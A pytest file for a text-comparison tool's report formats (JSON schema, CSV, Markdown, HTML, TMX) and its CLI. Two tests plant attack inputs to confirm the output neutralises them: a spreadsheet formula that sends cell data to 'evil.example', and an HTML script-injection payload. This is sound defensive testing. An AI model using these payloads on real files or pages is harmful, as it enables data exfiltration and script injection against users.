"""The report set: JSON (and its JSON Schema), CSV, Markdown, HTML, TMX, and the CLI around them."""
import copy
import csv
import io
import json
import os
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import jsonschema
import pytest
from typer.testing import CliRunner

from conftest import SEED_CAND, SEED_REF
from qualcheck import check
from qualcheck.report import FORMATS, htmlfmt, markdown, tmx, write_reports
from qualcheck.report.schema import SCHEMA_PATH, errors, load_schema
from qualcheck.report.csvfmt import defuse
from qualcheck.report.table import COLUMNS

XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
SAME = "Xi Jinping met Vladimir Putin in Moscow on Monday.\nThey spoke about trade and the war in Ukraine.\n"
HTML_REF = """<!doctype html><html><head><title>Story</title><script>var ad = "buy";</script></head><body>
<nav><a href="/">Home</a> | <a href="/world">World</a></nav>
<article><h1>Xi and Putin talk</h1>
<p>Chinese President Xi Jinping spoke with Russian President Vladimir Putin on Monday.</p>
<p>The two leaders discussed trade &amp; energy, the Kremlin said.</p>
<p>Officials said the call lasted an hour.</p></article>
<footer>Sign in to read more</footer></body></html>"""
HTML_CAND = ("Chinese President XI Jinping spoke with Russian President Vladimir Putin on Monday.\n"
             "The two leaders discussed trade and energy, the Kremlin said.\n"
             "Analysts expect more calls this year.\n")


@pytest.fixture(scope="module")
def clean_report(encoder):
    return check(SAME, SAME, encoder=encoder)


@pytest.fixture(scope="module")
def html_report(encoder, tmp_path_factory):
    d = tmp_path_factory.mktemp("htmlin")
    (d / "ref.html").write_text(HTML_REF, encoding="utf-8")
    (d / "cand.txt").write_text(HTML_CAND, encoding="utf-8")
    return check(d / "ref.html", d / "cand.txt", encoder=encoder)


# ---- JSON and its schema ------------------------------------------------------------------

def test_json_contract(seed_report):
    data = json.loads(seed_report.to_json())
    assert data["schema_version"] == "1.7"
    for key in ("summary", "metadata", "reference", "candidate", "alignment", "findings"):
        assert key in data
    for side in ("reference", "candidate"):
        for s in data[side]["sentences"]:
            assert set(s) >= {"index", "start", "end", "text"}
        for r in data[side]["removed"]:
            assert set(r) >= {"start", "end", "text", "reason"}
    assert len(data["reference"]["removed"]) == 20
    for a in data["alignment"]:
        assert set(a) >= {"ref", "cand", "kind", "score"}
        assert a["kind"] in ("match", "moved", "omission", "addition")
    for f in data["findings"]:
        assert set(f) >= {"id", "category", "severity", "side", "ref_span", "cand_span", "ref_text", "cand_text",
                          "message", "suggestion", "score"}
    md = data["metadata"]
    assert md["model"] == "all-MiniLM-L6-v2-onnx" and md["settings"]["min_similarity"] is None
    assert md["engine"].startswith("onnxruntime ") and "float32 ONNX export of all-MiniLM-L6-v2" in md["engine"]
    assert len(md["inputs"]["reference"]["sha256"]) == 64
    ids = [f["id"] for f in data["findings"]]
    assert len(ids) == len(set(ids))


def test_schema_file_is_a_valid_schema_shipped_in_the_package():
    jsonschema.Draft202012Validator.check_schema(load_schema())
    assert SCHEMA_PATH.parent.name == "data" and SCHEMA_PATH.is_file()
    assert load_schema()["properties"]["schema_version"]["pattern"].startswith("^1")


def test_reports_validate_against_schema(seed_report, clean_report, html_report, every_json_report_is_valid):
    for report in (seed_report, clean_report, html_report):
        data = json.loads(report.to_json())
        assert errors(data) == [], report.candidate.name
    # the HTML input: the page's debris is listed, the report still conforms
    assert html_report.reference.format == "html" and html_report.reference.removed
    assert clean_report.findings == [] and json.loads(clean_report.to_json())["summary"]["worst_severity"] is None
    # and the session-wide hook (conftest) saw them: every report built in the suite is validated
    assert len(every_json_report_is_valid) >= 3


def test_schema_rejects_broken_reports(seed_report):
    good = json.loads(seed_report.to_json())
    breakages = {
        "no summary": lambda d: d.pop("summary"),
        "unknown severity": lambda d: d["findings"][0].update(severity="critical"),
        "span of three": lambda d: d["findings"][0].update(cand_span=[1, 2, 3], ref_span=[1, 2, 3]),
        "reversed span": lambda d: d["findings"][0].update(cand_span=[9, 3], ref_span=[9, 3]),
        "bad hash": lambda d: d["metadata"]["inputs"]["reference"].update(sha256="abc"),
        "omission with a candidate": lambda d: next(a for a in d["alignment"] if a["kind"] == "omission").update(cand=[0]),
        "alignment past the end": lambda d: d["alignment"][0].update(ref=[999], kind="match"),
        "candidate finding without a span": lambda d: next(
            f for f in d["findings"] if f["side"] == "candidate").update(cand_span=None),
        "score above 100": lambda d: d["summary"].update(score=101),
        "major version 2": lambda d: d.update(schema_version="2.0"),
    }
    for what, breakit in breakages.items():
        d = copy.deepcopy(good)
        breakit(d)
        assert errors(d), f"the schema let through: {what}"


# ---- CSV ----------------------------------------------------------------------------------

def test_csv_stable_columns_and_round_trip(seed_report, tmp_path):
    paths = write_reports(seed_report, tmp_path, ["csv"])
    text = paths["csv"].read_text(encoding="utf-8")
    assert not text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    # the contract of the issue, in this order; extras only after it
    assert list(rows[0].keys())[:12] == ["id", "category", "severity", "ref_start", "ref_end", "cand_start", "cand_end",
                                         "ref_text", "cand_text", "message", "suggestion", "score"]
    assert list(rows[0].keys()) == COLUMNS and "side" in COLUMNS
    assert len(rows) == len(seed_report.findings)
    for row, f in zip(rows, seed_report.findings):
        assert row["id"] == f.id and row["category"] == f.category and row["severity"] == f.severity
        assert row["message"] == defuse(f.message) and row["cand_text"] == defuse(f.cand_text or "")
        assert row["ref_text"] == defuse(f.ref_text or "")
        for col, span in (("ref", f.ref_span), ("cand", f.cand_span)):
            if span:
                assert (int(row[f"{col}_start"]), int(row[f"{col}_end"])) == tuple(span)
            else:
                assert row[f"{col}_start"] == row[f"{col}_end"] == ""
        assert row["score"] == ("" if f.score is None else str(f.score))
        assert row["accepted"] in ("true", "false")
        occ = [tuple(map(int, o.split("-"))) for o in row["occurrences"].split(";") if o]
        assert occ == [tuple(o) for o in f.occurrences]


def test_csv_never_carries_a_live_spreadsheet_formula(encoder, tmp_path):
    planted = '=HYPERLINK("http://evil.example/?"&A1,"click") is not news. The council met on Monday.'
    ref = "The council met on Monday. It approved the budget."
    report = check(ref, planted + " It approved the budget.", encoder=encoder)
    assert any((f.cand_text or "").startswith("=") for f in report.findings)  # the finding quotes it as is
    paths = write_reports(report, tmp_path, ["csv", "json"])
    rows = list(csv.DictReader(io.StringIO(paths["csv"].read_text(encoding="utf-8"))))
    for row in rows:
        for col in ("ref_text", "cand_text", "message", "suggestion"):
            assert not row[col].startswith(("=", "+", "-", "@")), (col, row[col])
    assert any(row["cand_text"].startswith("'=HYPERLINK") for row in rows)
    data = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert any(f["cand_text"].startswith("=HYPERLINK") for f in data["findings"])  # JSON keeps the exact text


# ---- Markdown -----------------------------------------------------------------------------

def test_markdown_summary_then_findings_by_severity(seed_report):
    md = markdown.render(seed_report)
    first_heading = md.index("\n## ")
    summary = md[:first_heading]
    assert "| Score |" in summary and "| category | major | minor | info | all |" in summary
    for cat, n in seed_report.summary["by_category"].items():
        assert re.search(rf"\| `{re.escape(cat)}` \|.*\| {n} \|", summary)
    headings = re.findall(r"^## (Major|Minor|Info) \((\d+)\)$", md, re.M)
    by_sev = seed_report.findings.by_severity()
    assert headings == [(s.capitalize(), str(n)) for s, n in by_sev.items() if n]
    blocks = re.split(r"\n(?=\*\*\d+\. `)", md[first_heading:])[1:]
    assert len(blocks) == len(seed_report.findings)
    for b in blocks:  # both sentences quoted (or said to have no counterpart)
        assert "> **Reference" in b and "> **Candidate" in b
    name = next(f for f in seed_report.findings if f.category == "name.misspelled")
    block = next(b for b in blocks if f"`{name.id}`" in b)
    cand_line = next(line for line in block.splitlines() if line.startswith("> **Candidate"))
    ref_line = next(line for line in block.splitlines() if line.startswith("> **Reference"))
    marked = " ".join(seed_report.candidate.original[name.cand_span[0]:name.cand_span[1]].split())
    assert f"**{marked}**" in cand_line and "Volodymi" in marked
    assert name.suggestion in ref_line and "**" not in ref_line.split(":**", 1)[1]  # context, not marked
    # whole-sentence findings are quoted, not bolded end to end
    omission = next(b for b in blocks if "`omission`" in b)
    assert "> **Candidate:** *(no counterpart)*" in omission


def test_markdown_escapes_markup():
    assert markdown.esc("a *b* [c](d) <i>x</i> 3 < 4 snake_case _x_") == (
        "a \\*b\\* \\[c\\](d) \\<i>x\\</i> 3 < 4 snake_case \\_x\\_")
    assert markdown.code("a|b") == "`a\\|b`" and markdown.code("a`b") == "`` a`b ``"


# ---- HTML (static; the browser test is test_html_browser.py) -------------------------------

class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict]]:
    p = _Tags()
    p.feed(html)
    return p.tags


def test_html_self_contained_rows_and_notes(seed_report):
    html = htmlfmt.render(seed_report)
    tags = _tags(html)
    # self-contained: no external script, style sheet, image, font or frame
    for tag, attrs in tags:
        assert not (tag in ("script", "img", "iframe", "link", "source", "video", "audio") and ("src" in attrs or "href" in attrs))
        assert not attrs.get("href", "#").startswith(("http:", "https:", "//"))
    assert "@import" not in html and "url(" not in html
    rows = [a for t, a in tags if t == "tr" and "row" in a.get("class", "").split()]
    assert [r["id"] for r in rows] == [f"row-{k + 1}" for k in range(len(seed_report.alignment))]
    assert [r["data-kind"] for r in rows] == [a.kind for a in seed_report.alignment]
    notes = [a["data-fid"] for t, a in tags if t == "li" and "data-fid" in a]
    assert sorted(notes) == sorted(f.id for f in seed_report.findings)
    assert {a.get("data-on") for t, a in tags if t == "mark"} <= {"major", "minor", "info", None}
    debris = [a for t, a in tags if t == "details" and "debris-reference" in a.get("class", "")]
    assert debris and "open" not in debris[0]


def test_html_inlines_the_package_css_and_js(seed_report):
    """The style sheet and the script are package files (read with importlib.resources, so they ship
    in the wheel) inlined in the page, once each: the report stays one file."""
    from importlib.resources import files

    css = (files("qualcheck.report") / "templates" / "report.css").read_text(encoding="utf-8")
    js = (files("qualcheck.report") / "templates" / "report.js").read_text(encoding="utf-8")
    assert len(css) > 5000 and len(js) > 3000
    html = htmlfmt.render(seed_report)
    assert html.count(css) == 1 and html.count(js) == 1
    assert f"<style>\n{css}</style>" in html and f"<script>\n{js}</script>" in html
    assert "{{" not in html and "{%" not in html  # no template syntax left over


def test_html_templates_join_their_lines(seed_report):
    """The partials are written one element a line; the page has no whitespace between a row's
    elements (whitespace between inline elements would show as a space)."""
    html = htmlfmt.render(seed_report)
    rows = re.findall(r'<tr class="row.*?</tr>', html, re.S)
    assert rows and all("\n" not in r for r in rows)
    assert '</a> <span class="kind">' in rows[0]  # the one space the gutter has


def test_html_escapes_hostile_text(encoder):
    ref = 'He wrote "</script><img src=x onerror=alert(1)>" in the chat, the police said.\n'
    cand = 'He wrote "</script><img src=x onerror=alert(1)>" in a chat, police said.\n'
    report = check(ref, cand, encoder=encoder)
    html = htmlfmt.render(report)
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert len(re.findall(r"<script\b", html)) == 2  # the page's own: the findings data and the code
    data = re.search(r'<script type="application/json" id="qc-findings"[^>]*>(.*?)</script>', html, re.S).group(1)
    assert json.loads(data).keys() == {f.id for f in report.findings}


# ---- TMX ----------------------------------------------------------------------------------

def test_tmx_aligned_pairs(seed_report):
    text = tmx.render(seed_report)
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>') and "tmx14.dtd" in text
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == "tmx" and root.get("version") == "1.4"
    header = root.find("header")
    for attr in ("creationtool", "creationtoolversion", "segtype", "o-tmf", "adminlang", "srclang", "datatype"):
        assert header.get(attr), attr
    assert re.fullmatch(r"\d{8}T\d{6}Z", header.get("creationdate"))
    tus = root.findall("body/tu")
    pairs = [(k, a) for k, a in enumerate(seed_report.alignment, 1) if a.is_pair]
    assert len(tus) == len(pairs) > 0
    statuses = set()
    for tu, (k, a) in zip(tus, pairs):
        assert tu.get("tuid") == str(k)
        props = {p.get("type"): p.text for p in tu.findall("prop")}
        assert props["x-qualcheck-kind"] == a.kind and props["x-qualcheck-shape"] == a.shape
        assert abs(float(props["x-qualcheck-similarity"]) - a.score) < 1e-4
        statuses.add(props["x-qualcheck-status"])
        noted = [n.text.split(" ", 1)[0] for n in tu.findall("note")]
        worst = min(noted, key=["major", "minor", "info"].index) if noted else "clean"
        assert props["x-qualcheck-status"] == worst
        tuvs = tu.findall("tuv")
        assert [t.get(XML_LANG) for t in tuvs] == ["en", "en"]
        assert tuvs[0].find("seg").text == seed_report.reference.group_text(a.ref)
        assert tuvs[1].find("seg").text == seed_report.candidate.group_text(a.cand)
    assert statuses & {"major", "minor"}
    name = next(f for f in seed_report.findings if f.category == "name.misspelled")
    assert any(name.message in (n.text or "") for tu in tus for n in tu.findall("note"))


def test_tmx_clean_pairs(clean_report):
    tus = ET.fromstring(tmx.render(clean_report).encode("utf-8")).findall("body/tu")
    assert len(tus) == 2
    for tu in tus:
        assert {p.get("type"): p.text for p in tu.findall("prop")}["x-qualcheck-status"] == "clean"
        assert not tu.findall("note")


def test_tmx_escapes_and_languages(encoder, html_report):
    ref = "The firm's profit rose 5% to €3 bn <net> & more.\nIt was a record \x07year.\n"
    report = check(ref, ref.replace("rose", "grew"), encoder=encoder)
    root = ET.fromstring(tmx.render(report).encode("utf-8"))  # parses: escaped, no illegal characters
    segs = [s.text for s in root.iter("seg")]
    assert any("<net> & more" in s for s in segs) and not any("\x07" in s for s in segs)
    root = ET.fromstring(tmx.render(report, ref_lang="en-GB", cand_lang="de").encode("utf-8"))
    assert root.find("header").get("srclang") == "en-GB"
    assert [t.get(XML_LANG) for t in root.find("body/tu").findall("tuv")] == ["en-GB", "de"]
    assert tmx.guess_language("习近平星期一与普京通了电话。") == "zh"
    assert tmx.guess_language("Си Цзиньпин поговорил с Путиным.") == "ru"
    assert tmx.guess_language("習近平氏はプーチン氏と電話で話した。") == "ja"
    assert tmx.guess_language("Xi spoke with Putin on Monday.") == "en"
    # an HTML input: the pairs carry the cleaned sentences, not the page's markup
    text = tmx.render(html_report)
    assert "<p>" not in text and "&lt;p&gt;" not in text
    assert len(ET.fromstring(text.encode()).findall("body/tu")) == sum(a.is_pair for a in html_report.alignment)


# ---- the CLI around the reports -------------------------------------------------------------

def _cli(args, cwd):
    from qualcheck.cli import app

    old = os.getcwd()
    os.chdir(cwd)
    try:
        return CliRunner().invoke(app, args)
    finally:
        os.chdir(old)


def test_cli_formats_layout_and_exit_codes(encoder, tmp_path):
    assert "tmx" in FORMATS
    (tmp_path / "ref.txt").write_text(SAME)
    (tmp_path / "cand.txt").write_text(SAME.replace("Xi", "XI"))
    r = _cli(["check", "ref.txt", "cand.txt", "--format", "tmx,json", "--fail-on", "major", "--quiet"], tmp_path)
    assert r.exit_code == 1, r.output  # XI for Xi is a major finding
    run = tmp_path / "reports" / "ref--cand"
    assert sorted(p.name for p in run.iterdir()) == ["aligned.tmx", "report.json"]
    assert ET.parse(run / "aligned.tmx").getroot().get("version") == "1.4"
    assert ET.parse(run / "aligned.tmx").getroot().find("header").get("srclang") == "en"  # guessed
    r = _cli(["check", "ref.txt", "cand.txt", "--format", "tmx", "--out", "langs", "--quiet",
              "--ref-lang", "en-GB", "--cand-lang", "en-US"], tmp_path)
    root = ET.parse(tmp_path / "langs" / "aligned.tmx").getroot()
    assert root.find("header").get("srclang") == "en-GB"
    tuv_langs = {t.get("{http://www.w3.org/XML/1998/namespace}lang") for t in root.iter("tuv")}
    assert tuv_langs == {"en-GB", "en-US"}
    # one folder per run, never overwriting: -2, then -3
    for k in (2, 3):
        r = _cli(["check", "ref.txt", "cand.txt", "--format", "json", "--fail-on", "never", "--quiet"], tmp_path)
        assert r.exit_code == 0
        assert (tmp_path / "reports" / f"ref--cand-{k}" / "report.json").is_file()
    assert sorted(p.name for p in (tmp_path / "reports").iterdir()) == ["ref--cand", "ref--cand-2", "ref--cand-3"]
    # --out names the folder; writing into it again is said, not silent
    r = _cli(["check", "ref.txt", "cand.txt", "--out", "mine", "--format", "md", "--fail-on", "never"], tmp_path)
    assert r.exit_code == 0 and "replacing" not in r.output
    r = _cli(["check", "ref.txt", "cand.txt", "--out", "mine", "--format", "md", "--fail-on", "never"], tmp_path)
    assert r.exit_code == 0 and "replacing the earlier report.md in mine/" in r.output
    # 0 clean; 2 usage error (unknown format) with one line and no traceback
    r = _cli(["check", "ref.txt", "ref.txt", "--format", "json", "--fail-on", "minor", "--quiet"], tmp_path)
    assert r.exit_code == 0
    r = _cli(["check", "ref.txt", "cand.txt", "--format", "pdf"], tmp_path)
    assert r.exit_code == 2 and "unknown format" in r.output and "Traceback" not in r.output
    # a format's full name is taken as users type it
    r = _cli(["check", "ref.txt", "cand.txt", "--out", "full", "--format", "Markdown", "--fail-on", "never", "-q"], tmp_path)
    assert r.exit_code == 0 and [p.name for p in (tmp_path / "full").iterdir()] == ["report.md"]
    help_text = " ".join(_cli(["check", "--help"], tmp_path).output.split())
    assert "tmx" in help_text
    for text in (help_text, " ".join(_cli(["--help"], tmp_path).output.split())):
        assert "0 clean" in text and "1 findings at or above --fail-on" in text and "2 usage or input error" in text


def test_readme_documents_reports_and_exit_codes():
    readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
    docs = (Path(__file__).parent.parent / "docs" / "reports.md").read_text(encoding="utf-8")
    assert "## Exit codes" in readme and "## Reports" in readme and "## JSON report" in docs
    exit_codes = readme.split("## Exit codes", 1)[1].split("\n## ", 1)[0]
    assert "`0`" in exit_codes and "`1`" in exit_codes and "`2`" in exit_codes
    reports = readme.split("## Reports", 1)[1].split("\n## ", 1)[0]
    for word in ("report.html", "report.md", "findings.csv", "report.json", "aligned.tmx", "report.schema.json"):
        assert word in reports, word
    # every field the JSON section promises is in a real report's JSON
    json_section = docs.split("## JSON report", 1)[1].split("\n## ", 1)[0]
    for key in ("schema_version", "summary", "metadata", "alignment", "findings", "removed", "sentences"):
        assert f"`{key}`" in json_section


def test_example_reports_in_repo_are_valid():
    """reports/example/ (the demo's report set, committed) conforms to the schema it claims."""
    example = Path(__file__).parent.parent / "reports" / "example"
    if not (example / "report.json").exists():
        pytest.skip("no reports/example in this checkout")
    data = json.loads((example / "report.json").read_text(encoding="utf-8"))
    assert errors(data) == []
    rows = list(csv.DictReader(io.StringIO((example / "findings.csv").read_text(encoding="utf-8"))))
    assert len(rows) == len(data["findings"])
    assert "<tr class=\"row" in (example / "report.html").read_text(encoding="utf-8")


def test_accepted_findings_greyed_not_counted(seed_report):
    """--show-accepted: an accepted finding is listed greyed with its own filter, not highlighted or counted."""
    report = copy.deepcopy(seed_report)
    name = next(f for f in report.findings if f.category == "name.misspelled")
    name.accepted = True
    html = htmlfmt.render(report)
    tags = _tags(html)
    note = next(a for t, a in tags if t == "li" and a.get("data-fid") == name.id)
    assert "accepted" in note["class"].split()
    assert any(t == "input" and a.get("id") == "show-accepted" for t, a in tags)
    # its own span is not highlighted for it (other findings on the same words may still be)
    marks = [a for t, a in tags if t == "mark" and name.id in a.get("data-fids", "").split()]
    assert marks and all(a.get("data-on") is None or len(a["data-fids"].split()) > 1 for a in marks)
    counts = re.search(r'<span class="v">(\d+)</span><span class="l">findings', html).group(1)
    assert int(counts) == len(report.findings) - 1 == report.summary["findings"]
    md = markdown.render(report)
    assert "## Accepted in the baseline (1)" in md and f"`{name.id}`" in md.split("## Accepted in the baseline")[1]


def _synthetic(alignment, n=3):
    from qualcheck.report.result import Findings, Report
    from qualcheck.types import Alignment, Document, Sentence

    def doc(name):
        texts = [f"Sentence {k} of the {name}." for k in range(n)]
        sents, pos = [], 0
        for k, t in enumerate(texts):
            sents.append(Sentence(k, pos, pos + len(t), t))
            pos += len(t) + 1
        return Document(name, " ".join(texts), sentences=sents)

    beads = [Alignment(tuple(r), tuple(c), kind, 0.9 if r and c else None) for r, c, kind in alignment]
    return Report(doc("reference"), doc("candidate"), beads, Findings(), {"settings": {"min_similarity": 0.75}})


def test_html_moved_placeholder_in_the_other_column():
    """Moved content shown in reference order gets a placeholder where it stands in the candidate, and the reverse."""
    # rows in reference order: r1-c2 is moved; in the candidate c2 comes last, after the row of c1
    html = htmlfmt.render(_synthetic([([0], [0], "match"), ([1], [2], "moved"), ([2], [1], "match")]))
    order = re.findall(r'<tr class="(?:row|ghost)[^"]*" id="([^"]+)"', html)
    assert order == ["row-1", "row-2", "row-3", "moved-2"]
    ghost = html.split('id="moved-2"')[1].split("</tr>")[0]
    assert 'class="cand"' in ghost and "Sentence 2 of the candidate" in ghost and 'href="#row-2"' in ghost
    assert 'href="#moved-2"' in html.split('id="row-2"')[1].split("</tr>")[0]
    # rows in candidate order: r2-c1 is moved; in the reference r2 comes last
    html = htmlfmt.render(_synthetic([([0], [0], "match"), ([2], [1], "moved"), ([1], [2], "match")]))
    order = re.findall(r'<tr class="(?:row|ghost)[^"]*" id="([^"]+)"', html)
    assert order == ["row-1", "row-2", "row-3", "moved-2"]
    ghost = html.split('id="moved-2"')[1].split("</tr>")[0]
    assert 'class="ref"' in ghost and "Sentence 2 of the reference" in ghost
